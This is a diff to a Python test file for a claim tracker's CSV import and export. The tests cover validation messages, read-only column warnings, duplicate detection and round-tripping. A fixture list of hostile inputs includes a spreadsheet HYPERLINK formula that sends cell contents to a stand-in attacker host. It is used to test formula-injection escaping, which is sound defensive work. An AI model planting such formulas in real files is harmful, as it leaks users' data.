@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -11,13 +12,24 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from sqlmodel import Session, func, select
+from typer.testing import CliRunner
 
 from tracker import queries, services
+from tracker.cli import app
 from tracker.errors import ImportFailed
-from tracker.interchange.csv_export import CSV_COLUMNS, export_csv_bytes
+from tracker.interchange.csv_export import (
+    CSV_COLUMNS,
+    DERIVED_COLUMNS,
+    EDITABLE_COLUMNS,
+    export_csv_bytes,
+)
+from tracker.interchange.csv_import import READ_ONLY_HINTS, read_rows
 from tracker.interchange.csvsafe import escape_cell, is_formula_safe, unescape_cell
-from tracker.models import Claim, ClaimUpdate, Event
+from tracker.models import Claim, ClaimUpdate, Event, Note
 from tracker.services import import_claims_csv
+from tracker.validation import max_length
+
+from .conftest import ROOT
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -170,6 +182,7 @@ def test_bad_rows_are_all_reported_and_nothing_is_written(seeded: Session) -> No
     rows[0]["status"] = "done"
     rows[1]["claim_id"] = "999999"
     rows[2]["version"] = "7"
+    rows[2]["claim"] = "a stale edit"  # an unchanged stale row would be fine
     rows[3]["claim"] = "ok edit that must not land"
     rows[4]["status"] = "verified"  # no source
     rows[5]["claim_type"] = "rumour"
@@ -187,7 +200,10 @@ def test_bad_rows_are_all_reported_and_nothing_is_written(seeded: Session) -> No
     assert "line 2, field 'status', value 'done': unknown status; allowed: unreviewed" in message
     assert "line 3, field 'claim_id', value '999999': no such claim" in message
     assert "line 4, field 'version', value '7': claim 3 is at version 1" in message
-    assert "line 6: verify needs at least one supporting source" in message
+    assert (
+        "line 6, field 'status', value 'verified': verify needs at least one supporting source"
+        in message
+    )
     assert "line 7, field 'claim_type', value 'rumour': unknown claim_type" in message
     assert table_counts(seeded) == before
     assert queries.get_claim(session=seeded, claim_id=4).claim != "ok edit that must not land"
@@ -267,3 +283,179 @@ def test_any_claim_text_survives_export_import_export(seeded: Session, text: str
     import_claims_csv(session=seeded, data=first, actor="editor")
     assert export(seeded, ids=[1, 2]) == first
     assert queries.get_claim(session=seeded, claim_id=1).claim == text.strip()
+
+
+# --- issue #9 findings 12, 14-17, 19 ---------------------------------------------------
+
+SLUG = "trainium3-silicon-sovereignty"
+UNCLAIMED = "By March 2026, the AI world has reached a “Post-NVIDIA” realization."
+cli_runner = CliRunner()
+
+
+def csv_bytes(rows: list[dict[str, str]]) -> bytes:
+    """Rows (plain strings) written as the export writes them."""
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
+    writer.writeheader()
+    writer.writerows({k: escape_cell(v) for k, v in r.items()} for r in rows)
+    return out.getvalue().encode("utf-8")
+
+
+def new_row(quote: str, start: int | None = None, end: int | None = None) -> dict[str, str]:
+    row = dict.fromkeys(CSV_COLUMNS, "")
+    row |= {"article": SLUG, "claim": f"New: {quote[:40]}", "quote": quote}
+    if start is not None and end is not None:
+        row |= {"quote_start": str(start), "quote_end": str(end)}
+    return row
+
+
+def cli(session: Session, url: str, *args: str) -> tuple[int, str, str]:
+    session.rollback()  # end the fixture's read transaction before another connection writes
+    result = cli_runner.invoke(app, ["--db", url, *args])
+    return result.exit_code, result.stdout, result.stderr
+
+
+def test_import_refuses_an_assignee_without_an_account(seeded: Session) -> None:
+    """Finding 12: the same rule as `tracker assign`, reported with line, field and value."""
+    rows = rows_of(export(seeded, ids=[1]))
+    rows[0]["assignee"] = "nobody"
+    ghost = new_row(UNCLAIMED) | {"assignee": "ghost"}
+    before = table_counts(seeded)
+    with pytest.raises(ImportFailed) as info:
+        import_claims_csv(
+            session=seeded, data=csv_bytes([rows[0], ghost]), actor="editor", source="a.csv"
+        )
+    message = str(info.value)
+    assert message.startswith("a.csv: 2 problem(s), nothing imported")
+    assert "line 2, field 'assignee', value 'nobody': no account named 'nobody'" in message
+    assert "line 3, field 'assignee', value 'ghost': no account named 'ghost'" in message
+    assert table_counts(seeded) == before
+    assert queries.get_claim(session=seeded, claim_id=1).assignee is None
+
+
+def test_long_notes_survive_export_import_export(seeded: Session) -> None:
+    """Finding 14: a notes cell beyond csv's default field limit (131,072) round-trips."""
+    body = max_length(Note, "body")
+    for i in range(20):
+        services.add_note(
+            session=seeded, claim_id=1, body=f"{i:02d} " + "x" * (body - 3), actor="ana"
+        )
+    limit = csv.field_size_limit()
+    first = export(seeded)
+    notes = read_rows(first, "long.csv")[0][1]["notes"]
+    assert len(notes) > 20 * body > limit
+    report = import_claims_csv(session=seeded, data=first, actor="editor")
+    assert (report.created, report.updated, report.unchanged) == ([], [], report.rows)
+    assert report.warnings == []
+    assert export(seeded) == first
+    assert csv.field_size_limit() == limit  # the process-wide limit is put back
+
+
+def test_reimporting_an_applied_file_reports_it_unchanged(
+    seeded: Session, db_url: str, tmp_path: Path
+) -> None:
+    """Finding 15: a row equal to the claim is unchanged whatever version it carries."""
+    rows = rows_of(export(seeded))
+    rows[2]["claim"] = "An edited claim 3"
+    target = tmp_path / "edited.csv"
+    target.write_bytes(csv_bytes(rows))
+    code, out, err = cli(seeded, db_url, "import", "csv", str(target), "--by", "editor")
+    assert code == 0, err
+    assert "updated 1, unchanged 109" in out
+    code, out, err = cli(seeded, db_url, "import", "csv", str(target), "--by", "editor")
+    assert (code, err) == (0, "")
+    assert f"{target}: 110 rows; created 0, updated 0, unchanged 110, skipped 0" in out
+    assert "warning" not in out  # a stale row's read-only cells are not the user's edits
+    seeded.expire_all()
+    claim = queries.get_claim(session=seeded, claim_id=3)
+    assert (claim.claim, claim.version) == ("An edited claim 3", 2)
+
+
+def test_a_stale_row_that_changes_something_is_still_refused(seeded: Session) -> None:
+    rows = rows_of(export(seeded, ids=[3]))
+    set_claim_text(seeded, 3, "changed by someone else")
+    rows[0]["claim"] = "my edit"
+    with pytest.raises(ImportFailed, match=r"line 2, field 'version', value '1': claim 3 is at"):
+        import_claims_csv(session=seeded, data=csv_bytes(rows), actor="editor")
+
+
+def test_edits_to_read_only_columns_are_warned_and_ignored(
+    seeded: Session, db_url: str, tmp_path: Path
+) -> None:
+    """Finding 16: compared with the export, reported with line and column, import goes on."""
+    rows = rows_of(export(seeded, ids=[1, 2, 3]))
+    rows[0]["source_count"] = "4"
+    rows[2]["notes"] = "I checked this with the press office"
+    rows[2]["confirmation"] = "confirmed"
+    rows[1]["claim"] = "An edit that lands"
+    rows[1]["updated_at"] = "2020-01-01T00:00:00+00:00"
+    data = csv_bytes(rows)
+    expected = [
+        "line 2, column 'source_count': read-only, ignored; add sources with `tracker source add`",
+        "line 3, column 'updated_at': read-only, ignored; set by the tracker",
+        "line 4, column 'notes': read-only, ignored; add notes with `tracker note`",
+        "line 4, column 'confirmation': read-only, ignored; "
+        "confirm a verdict with `tracker confirm`",
+    ]
+    report = import_claims_csv(session=seeded, data=data, actor="editor", dry_run=True)
+    assert [str(w) for w in report.warnings] == expected
+    assert (report.updated, report.unchanged) == ([2], 2)
+
+    target = tmp_path / "ro.csv"
+    target.write_bytes(data)
+    for args in (("--dry-run",), ()):
+        code, out, err = cli(seeded, db_url, "import", "csv", str(target), "--by", "editor", *args)
+        assert (code, err) == (0, ""), err
+        assert " 1, unchanged 2, " in out and "4 warning(s):" in out
+        for line in expected:
+            assert f"  {line}\n" in out
+    seeded.expire_all()
+    assert queries.claim_detail(session=seeded, claim_id=3).notes == []
+    assert queries.get_claim(session=seeded, claim_id=2).claim == "An edit that lands"
+
+
+def test_read_only_hints_cover_every_read_only_column() -> None:
+    assert set(READ_ONLY_HINTS) == set(DERIVED_COLUMNS)
+
+
+def test_a_new_row_repeating_a_claims_quote_is_skipped_and_reported(seeded: Session) -> None:
+    """Finding 17: as `import-article` matches candidates; re-importing creates nothing."""
+    three = queries.get_claim(session=seeded, claim_id=3)
+    inside = three.quote_start + 5, three.quote_start + 30
+    article = queries.get_article(session=seeded, slug=SLUG)
+    rows = [
+        new_row(three.quote),  # the same quote, located at the same place
+        new_row(article.text[inside[0] : inside[1]], *inside),  # overlaps claim 3
+        new_row(UNCLAIMED),
+        new_row(UNCLAIMED),  # repeats the row above
+    ]
+    data = csv_bytes(rows)
+    before = table_counts(seeded)
+    report = import_claims_csv(session=seeded, data=data, actor="editor")
+    assert len(report.created) == 1
+    created = report.created[0]
+    assert report.skipped == [(2, 3), (3, 3), (5, created)]
+    assert str(report.warnings[0]) == (
+        "line 2, column 'quote': repeats the quote of claim 3 (same place or the same words); "
+        "not created again"
+    )
+    assert "skipped 3 duplicate(s)" in str(report)
+    assert table_counts(seeded)[0] == before[0] + 1
+
+    again = import_claims_csv(session=seeded, data=data, actor="editor")
+    assert again.created == [] and [m for _, m in again.skipped] == [3, 3, created, created]
+    assert table_counts(seeded)[0] == before[0] + 1
+
+
+def test_readme_lists_the_csv_columns_in_order() -> None:
+    """Finding 19: the README's column list is the code's, in the code's order."""
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    section = readme.split("## CSV format", 1)[1].split("\n## ", 1)[0]
+    block = re.search(r"\n\n`(claim_id,[^`]*)`\n\n", section)
+    assert block, "the CSV section lists its columns in one `claim_id, ...` block"
+    listed = [c.strip() for c in block.group(1).replace("\n", " ").split(",")]
+    assert listed == list(CSV_COLUMNS)
+    editable = section.split("**Import.**", 1)[1]
+    for name in EDITABLE_COLUMNS:
+        if name not in ("claim_id", "article", "version"):
+            assert f"`{name}`" in editable, name
